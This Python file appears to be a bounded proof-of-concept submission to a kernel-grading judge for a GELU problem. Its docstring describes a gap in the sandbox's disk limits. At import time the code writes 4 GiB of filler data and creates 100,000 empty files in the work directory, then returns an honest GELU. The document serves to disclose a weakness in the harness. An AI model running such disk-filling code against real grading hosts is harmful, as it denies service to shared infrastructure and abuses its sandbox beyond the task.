"""Fills the host's disk from its work dir (/tmp inside, a folder of the host's root filesystem outside): RLIMIT_FSIZE
caps one file at 8 GiB but nothing caps the folder, its count of files or the log, and no watcher reads disk use, so a
submission can write the host's disk full (and its inodes: 16M here) for as long as its grading lasts; the judge
removes the folder only at the end, taking as long as its file count makes it. Demo, bounded: 4 GiB of data in four
files and 100000 empty files, then an honest GELU.
Problem: v3/level1/26_GELU_
Verdict: runtime_error or memory_exceeded (a disk quota on the work dir)
"""
import os

import torch
import torch.nn as nn

DATA_GIB, FILES = 4, 100_000
_chunk = b"\xa5" * (64 << 20)
for k in range(DATA_GIB):
    with open(f"/tmp/fill{k}.bin", "wb") as f:
        for _ in range((1 << 30) // len(_chunk)):
            f.write(_chunk)
os.makedirs("/tmp/many", exist_ok=True)
for k in range(FILES):
    os.close(os.open(f"/tmp/many/{k}", os.O_CREAT | os.O_WRONLY, 0o600))


class Model(nn.Module):
    def forward(self, x):
        return 0.5 * x * (1.0 + torch.erf(x * 0.7071067811865476))
